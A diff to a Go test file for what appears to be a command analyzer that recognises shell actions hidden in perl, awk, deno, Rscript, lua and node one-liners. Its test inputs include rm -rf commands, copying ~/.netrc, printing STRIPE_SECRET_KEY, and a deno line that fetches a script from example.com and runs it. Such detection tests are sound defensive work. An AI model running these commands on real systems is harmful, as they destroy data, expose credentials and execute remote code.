@@ -241,6 +241,9 @@ func TestMoreLanguageIdioms(t *testing.T) {
 		{`perl -MFile::Copy -e 'copy("$ENV{HOME}/.netrc", "/tmp/n")'`, "cp", "~/.netrc /tmp/n"},
 		{`T=/tmp/build-cache; awk -v t="$T" 'BEGIN { system("rm -rf " t) }'`, "rm", "-rf /tmp/build-cache"},
 		{`awk -vt=/srv 'BEGIN { system("rm -rf " t) }'`, "rm", "-rf /srv"},
+		{`deno eval "await new Deno.Command('rm', {args: ['-rf', '/srv/data']}).output()"`, "rm", "-rf /srv/data"},
+		{`deno eval "const s = await (await fetch('https://example.com/x.sh')).text(); await new Deno.Command('sh', {args: ['-c', s]}).output()"`, "sh", ""},
+		{`Rscript -e 'cat(Sys.getenv("STRIPE_SECRET_KEY"))'`, "printenv", "STRIPE_SECRET_KEY"},
 	}
 	for _, c := range cases {
 		wantWalked(t, c.src, c.name, c.args)
@@ -249,6 +252,12 @@ func TestMoreLanguageIdioms(t *testing.T) {
 	wantWalked(t, `lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "printf", "%s x")
 	if walked(`lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "cat", "") {
 		t.Errorf("a Lua append was read as a read of the file")
+	}
+	// A length test prints no secret.
+	for _, src := range []string{`Rscript -e 'cat(nchar(Sys.getenv("STRIPE_SECRET_KEY")) > 0)'`, `Rscript -e 'cat(nzchar(Sys.getenv("K")))'`} {
+		if walked(src, "printenv", "") {
+			t.Errorf("%s: a length test read as printing the value", src)
+		}
 	}
 	// JavaScript's copy() is not a file copy.
 	if walked(`node -e 'copy("~/.ssh/id_rsa", "x")'`, "cp", "") {
